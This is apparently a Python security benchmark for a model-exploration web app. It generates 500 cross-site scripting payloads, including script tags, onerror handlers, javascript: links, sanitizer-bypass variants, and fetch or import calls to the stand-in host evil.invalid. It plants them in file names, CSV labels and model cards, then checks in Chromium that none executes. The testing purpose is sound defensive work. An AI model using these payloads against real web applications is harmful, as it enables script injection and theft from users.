"""500 programs written into labels, names of columns and files, and the words of models' cards: none runs in Chromium.

Each calls `hurt`, asks a server that is not this one, or plants an element that is known by its mark. All of them are
brought as a data set (names of files, labels, columns), and as models (titles, sentences, credits, labels,
attributes); then every page that shows them is opened and pointed at.
"""

import csv
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from PIL import Image
from playwright.sync_api import Page, Request, sync_playwright

from benchmarks.report import measured_on, section
from tools.browser import CHROMIUM_ARGUMENTS, SETTLED, find_chromium, running_app

COMMAND = "python -m benchmarks.intake payloads"
MODELS = 10
OF_A_MODEL = 50  # payloads in its card and its encodings
LABELS = 23
PAGES = ("map", "sliders", "attributes", "sums", "sample", "report", "compare", "anomalies", "train", "models")
ELSEWHERE = "evil.invalid"

ACTS = (
    "hurt()", "top.hurt()", "window['hurt']()", "eval('hurt()')", "setTimeout(hurt)", "fetch('//evil.invalid/x')",
    "new Image().src='//evil.invalid/x'", "import('//evil.invalid/x.js')", "location='//evil.invalid/x'",
    "alert(1);hurt()",
)  # fmt: skip
FORMS = (
    "<script>{act}</script>",
    "<ScRiPt data-hurt>{act}//</sCrIpT>",
    '<img data-hurt src=x onerror="{act}">',
    "<svg data-hurt onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate data-hurt onbegin={act} attributeName=x dur=1s>",
    '<iframe data-hurt srcdoc="<script>parent.{act}</script>"></iframe>',
    "<iframe data-hurt src=\"javascript:{act}\"></iframe>",
    "<a data-hurt href=\"javascript:{act}\">x</a>",
    "[press](javascript:{act})",
    "[press](  JaVaScRiPt&colon;{act})",
    "[press](data:text/html;base64,PHNjcmlwdD5odXJ0KCk8L3NjcmlwdD4=#{n})",
    "![x](//evil.invalid/x{n}.png)",
    '![x](x "onerror={act}")',
    "<details data-hurt open ontoggle={act}>",
    "<input data-hurt autofocus onfocus={act}>",
    "<video data-hurt><source onerror={act}></video>",
    "<math><mtext></mtext><mglyph><style><img data-hurt src=x onerror={act}>",
    "<style data-hurt>@import '//evil.invalid/x{n}.css';</style>",
    "<link data-hurt rel=stylesheet href=//evil.invalid/x{n}.css>",
    '"><img data-hurt src=x onerror={act}>',
    "'-{act}-'",
    "`${{{act}}}`",
    "{{{{constructor.constructor('{act}')()}}}}",
    "</textarea></title></style><img data-hurt src=x onerror={act}>",
    "&lt;img data-hurt src=x onerror={act}&gt;",
    "\\u003cimg data-hurt src=x onerror={act}\\u003e",
    "$$\\href{{javascript:{act}}}{{x}}$$",
    "$\\htmlData{{hurt=1}}{{x}}$ $\\includegraphics{{//evil.invalid/x{n}.png}}$",
    ":material/<img data-hurt src=x onerror={act}>:",
    ":red[<img data-hurt src=x onerror={act}>]",
    "# <img data-hurt src=x onerror={act}>",
    "| a |\n|---|\n| <img data-hurt src=x onerror={act}> |",
    "<!--><img data-hurt src=x onerror={act}>-->",
    "<![CDATA[><img data-hurt src=x onerror={act}>]]>",
    "javascript:{act}",
    "<base data-hurt href=//evil.invalid/{n}/>",
    "<meta data-hurt http-equiv=refresh content='0;url=//evil.invalid/x{n}'>",
    "<form data-hurt action=//evil.invalid/x><button autofocus onfocus={act}>x",
    "<object data-hurt data=\"javascript:{act}\"></object>",
    "<embed data-hurt src=//evil.invalid/x{n}>",
    "<x data-hurt onmouseover={act} style='position:fixed;inset:0'>x</x>",
    "<b data-hurt contenteditable oninput={act}>x</b>",
    "<table background=\"//evil.invalid/x{n}.png\" data-hurt><td>x",
    "<div data-hurt style=\"background:url(//evil.invalid/x{n}.png)\">x</div>",
    "\u202e<img data-hurt src=x onerror={act}>",
    "\x00<img data-hurt src=x onerror={act}>",
    "<img data-hurt/src=x/onerror={act}>",
    "<img data-hurt src=x onerror&#61;{act}>",
    "%3Cimg%20data-hurt%20src%3Dx%20onerror%3D{act}%3E",
)  # fmt: skip
PAYLOADS = tuple(form.format(act=act, n=n) for form in FORMS for n, act in enumerate(ACTS))

WATCH = "window.hurts = 0; window.hurt = () => { window.hurts += 1; };"
MARKS = "document.querySelectorAll('[data-hurt], a[href^=javascript i], a[href^=data]').length"


@dataclass
class Seen:
    """What happened in the browser: programs that ran, elements that were planted, other servers that were asked."""

    ran: int = 0
    planted: int = 0
    asked: int = 0
    dialogs: int = 0
    pages: int = 0
    words: int = 0

    def watch(self, page: Page) -> None:
        page.add_init_script(WATCH)
        page.on("request", self._asked)
        page.on("dialog", self._dialog)

    def _asked(self, request: Request) -> None:
        self.asked += ELSEWHERE in request.url

    def _dialog(self, dialog: object) -> None:
        self.dialogs += 1
        dialog.dismiss()  # type: ignore[attr-defined]

    def look(self, page: Page) -> None:
        """Count what is on a page once it is at rest and everything on it has been pointed at."""
        page.wait_for_function(SETTLED, timeout=60_000)
        page.wait_for_timeout(200)
        for x in range(420, 1440, 170):
            page.mouse.move(x, 300 + x % 400)
        self.ran += page.evaluate("window.hurts ?? 1")
        self.planted += page.evaluate(MARKS)
        self.words += page.evaluate("(document.body.innerText.match(/hurt|evil/g) ?? []).length")
        self.pages += 1


# ---- what is brought -----------------------------------------------------------------------------------------------


def a_folder(folder: Path) -> None:
    """An image for each payload; its name, its label and its other cells are payloads, and so are the columns."""
    folder.mkdir()
    draw = np.random.default_rng(1)
    with (folder / "table.csv").open("w", newline="", encoding="utf-8", errors="replace") as file:
        rows = csv.writer(file)
        rows.writerow(["path", "label", *(PAYLOADS[place].replace("\x00", "") for place in range(0, 500, 50))])
        for place, payload in enumerate(PAYLOADS):
            name = "".join(letter for letter in payload if letter not in "/\x00\n")[:120] + f" {place}.png"
            Image.fromarray(draw.integers(0, 256, (8, 8), dtype=np.uint8)).save(folder / name)
            # Two of each label, so that they are labels.
            label = PAYLOADS[place // 10 * 10].replace("\x00", "")
            rows.writerow([name, label, *(PAYLOADS[(place + step) % 500].replace("\x00", "") for step in range(10))])


def models(place: Path) -> None:
    """Models whose cards, labels and attributes are payloads, fifty in each."""
    from vae.checkpoint import save
    from vae.config import Config
    from vae.data.images import Images
    from vae.encodings import encode, join, save_encodings
    from vae.explore.projection import pca
    from vae.model import VAE

    draw = np.random.default_rng(2)
    for number in range(MODELS):
        words = PAYLOADS[number::MODELS]
        assert len(words) == OF_A_MODEL
        title, sentence, credit, command, *names = words
        names = [f"{word} {place}" for place, word in enumerate(names)]
        sets = [
            Images(
                name="digits",
                split=split,
                pixels=draw.integers(0, 256, (count, 8, 8, 1), dtype=np.uint8),
                labels=np.arange(count) % LABELS,
                label_names=tuple(names[:LABELS]),
                attributes=draw.integers(0, 2, (count, len(names) - LABELS)).astype(np.float32),
                attribute_names=tuple(names[LABELS:]),
            )
            for split, count in (("train", 460), ("test", 184))
        ]
        vae = VAE(Config(shape=(1, 8, 8), latent_dim=3, encoder_sizes=(8,), decoder_sizes=(8,)), seed=number).eval()
        folder = place / f"model-{number:02}"
        about = {"name": "digits", "train": 460, "test": 184, "credit": credit}
        card = {"title": title, "sentence": sentence, "data": about, "command": command, "recipe": credit}
        save(folder, vae, card)
        known = join(*(encode(vae, images) for images in sets))
        save_encodings(folder, known.with_map("pca", pca(known.mu).xy))


# ---- in the browser ------------------------------------------------------------------------------------------------


def bring(page: Page, url: str, folder: Path, seen: Seen) -> None:
    """Bring the folder, make a set of it with a payload for a title, and look at all that says so."""
    page.goto(f"{url}/bring")
    page.set_input_files('[data-muscope="folder"]', folder)
    page.get_by_role("heading", name="What was understood").wait_for(timeout=120_000)
    seen.look(page)
    for fold in page.locator("[data-testid=stMain] [data-testid=stExpander] summary").all():
        fold.click()
    seen.look(page)
    box = page.get_by_role("textbox", name="Name")
    box.fill(PAYLOADS[20])
    box.press("Enter")
    page.wait_for_function(SETTLED)
    page.get_by_role("button", name="Use these").click()
    page.get_by_role("heading", name="Train", exact=True).wait_for(timeout=120_000)
    seen.look(page)
    page.goto(f"{url}/bring")
    seen.look(page)


def main(arguments: list[str]) -> int:
    seen = Seen()
    with tempfile.TemporaryDirectory() as place, sync_playwright() as playwright:
        folder = Path(place) / "brought"
        a_folder(folder)
        models(Path(place) / "home" / "models")  # where `running_app` has its home
        with running_app(Path(place)) as app:
            app.wait()
            browser = playwright.chromium.launch(executable_path=find_chromium(), args=CHROMIUM_ARGUMENTS)
            page = browser.new_page(viewport={"width": 1440, "height": 900})
            page.set_default_timeout(60_000)
            seen.watch(page)
            bring(page, app.url, folder, seen)
            for number in range(MODELS):
                for name in PAGES:
                    page.goto(f"{app.url}/{name}?model=model-{number:02}")
                    page.get_by_test_id("stMain").wait_for()
                    seen.look(page)
                print(f"model {number + 1} of {MODELS}", file=sys.stderr, flush=True)
            browser.close()
            printed = app.printed()
    section("intake", "payloads", _words(seen, printed.count("Traceback")))
    return int(bool(seen.ran or seen.planted or seen.asked or seen.dialogs))


def _words(seen: Seen, faults: int) -> str:
    return f"""## Programs in labels, names and cards

{measured_on(COMMAND)}

{len(PAYLOADS)} programs ({len(FORMS)} forms, {len(ACTS)} acts), brought as names of files, labels and columns of a set,
and as words, labels and attributes of {MODELS} models, then looked at in Chromium on every page. Bar: none runs.

| pages looked at | their words stood there | ran | planted | asked elsewhere | opened a dialog | server's errors |
|---:|---:|---:|---:|---:|---:|---:|
| {seen.pages} | {seen.words:,} | {seen.ran} | {seen.planted} | {seen.asked} | {seen.dialogs} | {faults} |
"""
